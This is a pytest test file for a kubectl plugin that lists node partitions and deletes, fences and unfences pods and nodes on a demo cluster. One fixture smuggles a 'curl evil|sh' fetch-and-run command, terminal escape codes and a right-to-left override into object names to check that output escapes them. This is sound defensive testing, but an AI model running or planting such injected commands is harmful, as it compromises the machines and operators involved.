@@ -1,0 +1,228 @@
+"""partitions, delete, fence, unfence without a cluster: what they show, what they refuse, and with which code."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Sequence
+from datetime import UTC, datetime
+from pathlib import Path
+from typing import Any, Final
+
+import jsonschema
+import pytest
+
+from kubectl_plugin.exit_codes import tell
+from kubectl_plugin.reports.schema import schema_of
+from kubectl_plugin.reports.steps import Step, StepKind
+from kubectl_plugin.views.deletion import state_words
+from kubectl_plugin.views.steps import step_line, step_words
+from podrules.cluster.demo import demo_objects
+from podrules.cluster.errors import Conflict, Forbidden, NotFound, Refused, Unreachable
+from podrules.cluster.kinds import PODS
+from podrules.model.base import ObjectMeta
+from tests.golden import check
+from tests.kubectl_plugin.running import run
+
+GOLDEN: Final = Path(__file__).resolve().parents[1] / "testdata" / "golden"
+FORCE: Final = ("--grace-period=0",)
+WHOLE: Final[dict[str, tuple[int, Sequence[str]]]] = {
+    "partitions": (0, ["partitions", "--demo"]),
+    "partitions-wide": (0, ["partitions", "--demo", "-o", "wide"]),
+    "delete-silent": (3, ["delete", "--demo", "-n", "shop", "pod/db-1", *FORCE]),
+    "delete-answering": (3, ["delete", "--demo", "-n", "shop", "pod/db-0", *FORCE]),
+    "delete-own-grace-of-0": (3, ["delete", "--demo", "-n", "shop", "pod/price-feed"]),
+    "fence": (3, ["fence", "--demo", "node/node-c3"]),
+    "fence-answering": (9, ["fence", "--demo", "node/node-a1"]),
+    "unfence": (0, ["unfence", "--demo", "node/node-c3"]),
+}
+
+
+@pytest.mark.parametrize("name", WHOLE)
+def test_F5_F6_whole_outputs(name: str) -> None:
+    code, words = WHOLE[name]
+    ran = run(*words)
+    assert (ran.code, ran.err) == (code, "")
+    prose = [line for line in ran.out.splitlines() if "kubectl " not in line]
+    assert max(map(len, prose)) <= 80
+    check(GOLDEN / f"safety-{name}.txt", ran.out)
+
+
+@pytest.mark.parametrize(
+    ("kind", "words"),
+    [
+        ("Partitions", ("partitions",)),
+        ("PodDeletion", ("delete", "-n", "shop", "pod/db-1", *FORCE)),
+        ("Fencing", ("fence", "node/node-c3")),
+        ("Fencing", ("unfence", "node/node-c3")),
+    ],
+)
+def test_F5_reports_fit_their_schema(kind: str, words: Sequence[str]) -> None:
+    printed = json.loads(run(*words, "--demo", "-o", "json").out)
+    assert (printed["apiVersion"], printed["kind"]) == ("kubectl-qos/v1", kind)
+    jsonschema.Draft202012Validator(schema_of(kind)).validate(printed)
+
+
+def test_F5_a_report_of_what_hangs_on_the_node() -> None:
+    node = json.loads(run("partitions", "--demo", "-o", "json").out)["nodes"][0]
+    worst = node["pods"][0]
+    assert (worst["name"], worst["risk"], worst["volumes"][0]["lock"]) == ("db-1", "TwoWriters", "None")
+    assert [block["kind"] for block in worst["blocks"]] == ["StatefulSet"]
+    assert [entry["used_by" if "used_by" in entry else "usedBy"] for entry in node["attachments"]] == ["data/broker-2"]
+
+
+def test_F5_everything_answers(tmp_path: Path) -> None:
+    nodes = [entry for entry in demo_objects() if entry["kind"] == "Node" and entry["metadata"]["name"] != "node-c3"]
+    file = tmp_path / "nodes.json"
+    file.write_text(json.dumps({"apiVersion": "v1", "kind": "List", "items": nodes}))
+    ran = run("partitions", "--snapshot", str(file))
+    assert (ran.code, ran.out.splitlines()[:2]) == (0, ["11 nodes", "All nodes answer."])
+
+
+@pytest.mark.parametrize(
+    ("words", "instead"),
+    [
+        (("delete", "-n", "shop", "pod/db-1", *FORCE, "--confirm"), "--grace-period=0 alone shows"),
+        (("delete", "-n", "shop", "pod/db-0"), "--grace-period=0 alone shows"),
+        (("delete", "-n", "shop", "pod/db-0", "--dry-run=server"), "--grace-period=0 alone shows"),
+        (("fence", "node/node-c3", "--confirm-powered-off"), "without a confirmation and --dry-run"),
+        (("fence", "node/node-c3", "--fence-command=true", "--confirm"), "without a confirmation and --dry-run"),
+        (("fence", "node/node-c3", "--dry-run=server"), "without a confirmation and --dry-run"),
+    ],
+)
+def test_F6_the_demo_cluster_cannot_be_changed(words: Sequence[str], instead: str) -> None:
+    ran = run(*words, "--demo")
+    assert ran.code == 2
+    assert ran.err.startswith(f"error: the demo cluster cannot be changed; {instead}")
+
+
+def _demo_file(tmp_path: Path, change: Any) -> Path:
+    """The demo cluster with something changed, as a snapshot."""
+    objects = demo_objects()
+    for entry in objects:
+        change(entry)
+    file = tmp_path / "cluster.json"
+    file.write_text(json.dumps({"apiVersion": "v1", "kind": "List", "items": objects}))
+    return file
+
+
+def _fenced(entry: dict[str, Any]) -> None:
+    if entry["kind"] == "Node" and entry["metadata"]["name"] == "node-c3":
+        taint = {"key": "node.kubernetes.io/out-of-service", "value": "nodeshutdown", "effect": "NoExecute"}
+        entry["spec"]["taints"].append({**taint, "timeAdded": "2026-10-17T03:10:00Z"})
+
+
+def test_F6_a_fenced_node(tmp_path: Path) -> None:
+    file = str(_demo_file(tmp_path, _fenced))
+    listed = run("partitions", "--snapshot", file)
+    assert "Declared out of service since" in listed.out
+    assert "They are removed, and its volumes detached, without waiting for the machine." in listed.out
+    asked = run("unfence", "node/node-c3", "--snapshot", file)
+    assert asked.code == 3
+    assert "Garbage collection would leave 5 pods Terminating that it removes now." in " ".join(asked.out.split())
+    refused = run("unfence", "node/node-c3", "--snapshot", file, "--confirm")
+    assert (refused.code, refused.err.splitlines()[0][:7]) == (2, "error: ")
+
+
+def _hostile(entry: dict[str, Any]) -> None:
+    meta = entry["metadata"]
+    if meta["name"] == "db-1" and entry["kind"] == "Pod":
+        meta["name"] = "db-1;\x1b[2Jcurl evil|sh\u202e"
+    if meta["name"] == "node-c3" and entry["kind"] == "Node":
+        meta["name"] = "node-c3\x1b[2J"
+        entry["spec"]["taints"][0]["key"] = "key\x1b[31m\nforged"
+    if entry["kind"] == "Pod" and entry["spec"].get("nodeName") == "node-c3":
+        entry["spec"]["nodeName"] = "node-c3\x1b[2J"
+
+
+@pytest.mark.parametrize("form", ["table", "wide", "json", "yaml"])
+def test_F5_hostile_names_are_escaped_and_in_no_command(tmp_path: Path, form: str) -> None:
+    ran = run("partitions", "--snapshot", str(_demo_file(tmp_path, _hostile)), "-o", form)
+    assert ran.code == 0
+    assert "\x1b" not in ran.out
+    assert "\u202e" not in ran.out
+    assert not [line for line in ran.out.splitlines() if "kubectl qos" in line and ("curl" in line or "x1b" in line)]
+
+
+@pytest.mark.parametrize(
+    ("words", "code", "message"),
+    [
+        (("delete",), 2, "nothing to delete: name a pod (pod/NAME)"),
+        (("delete", "deployment/web"), 2, "'deployment/web': this is for a pod, write pod/NAME"),
+        (("delete", "pod/a", "pod/b"), 2, "write one pod/NAME: each is looked at before it is changed"),
+        (("delete", "pod", "a", "b"), 2, "write one pod/NAME: each is looked at before it is changed"),
+        (("delete", "pod/../x"), 2, "'../x' is no name of a pod"),
+        (("delete", "pod/A%2f"), 2, "'A%2f' is no name of a pod"),
+        (("delete", "pod/db-0", "--grace-period=-1"), 2, "'-1' is no grace period: write seconds, 0 or more"),
+        (("delete", "pod/db-0", "--grace-period=soon"), 2, "'soon' is no grace period"),
+        (("delete", "pod/db-0", "--dry-run=client"), 2, "invalid choice: 'client'"),
+        (("delete", "-n", "shop", "pod/db-9"), 8, 'pods "db-9" not found in namespace shop; did you mean'),
+        (("fence",), 2, "nothing to fence: name a node (node/NAME)"),
+        (("fence", "pod/db-0"), 2, "'pod/db-0': this is for a node, write node/NAME"),
+        (("fence", "node/node-c3", "--confirm"), 2, "--confirm goes with a fence command"),
+        (("fence", "node/x", "--confirm-powered-off", "--fence-command=true"), 2, "not allowed with argument"),
+        (("fence", "node/node-x"), 8, 'nodes "node-x" not found'),
+        (("unfence", "node/node-x"), 8, 'nodes "node-x" not found'),
+        (("unfence",), 2, "nothing to take back: name a node (node/NAME)"),
+        (("partitions", "node/x"), 2, "unrecognized arguments: node/x"),
+    ],
+)
+def test_F2_wrong_command_lines(words: Sequence[str], code: int, message: str) -> None:
+    ran = run(*words, "--demo")
+    assert (ran.code, ran.out) == (code, "")
+    assert message in ran.err
+
+
+@pytest.mark.parametrize("command", ["partitions", "delete", "fence", "unfence"])
+def test_F2_help_has_examples_and_exit_codes(command: str) -> None:
+    ran = run(command, "--help")
+    assert ran.code == 0
+    assert "examples:" in ran.out
+    assert "exit codes: 0 " in ran.out
+    assert f"kubectl qos {command}" in ran.out
+
+
+@pytest.mark.parametrize(
+    ("error", "code"),
+    [
+        (NotFound(PODS, "x", "shop"), 3),
+        (Forbidden("delete", PODS, "shop", ""), 4),
+        (Refused("a webhook says no"), 4),
+        (Unreachable("nobody there"), 5),
+        (Conflict("another pod"), 9),
+    ],
+)
+def test_F2_each_error_has_its_code(error: Any, code: int, capsys: pytest.CaptureFixture[str]) -> None:
+    import sys
+
+    assert tell(error, sys.stderr) == code
+    assert capsys.readouterr().err == f"error: {error}\n"
+
+
+NOW: Final = datetime(2026, 11, 21, 3, 12, 4, tzinfo=UTC)
+
+
+def _steps(*kinds: StepKind) -> list[Step]:
+    return [Step(NOW, kind, "pod/db-1", "node-c3", 0) for kind in kinds]
+
+
+@pytest.mark.parametrize(
+    ("kinds", "sure", "said"),
+    [
+        ((), True, "Nothing was changed."),
+        ((StepKind.DELETING,), True, "Nothing was changed."),
+        ((StepKind.DELETING,), False, "Whether pod/db-1 was deleted is not known: there was no answer."),
+        ((StepKind.DELETING, StepKind.CONFIRMING, StepKind.CONFIRMED), True, "pod/db-1 carries the confirmation"),
+        ((StepKind.DELETING, StepKind.DELETED), False, "pod/db-1 is deleted, and goes without further help"),
+        ((StepKind.DELETING, StepKind.DELETED, StepKind.NODE_SILENT), True, "kubectl qos fence node/node-c3"),
+    ],
+)
+def test_F2_where_a_deletion_stands(kinds: Sequence[StepKind], sure: bool, said: str) -> None:
+    lines = state_words(ObjectMeta(name="db-1", namespace="shop"), _steps(*kinds), sure=sure)
+    assert said in " ".join(lines)
+
+
+@pytest.mark.parametrize("kind", StepKind)
+def test_F6_every_step_has_words(kind: StepKind) -> None:
+    words = step_words(Step(NOW, kind, "node/node-c3", "detail", 1))
+    assert words
+    assert step_line(Step(NOW, kind, "node/node-c3", "detail", 1)) == f"03:12:04 UTC  {words}"
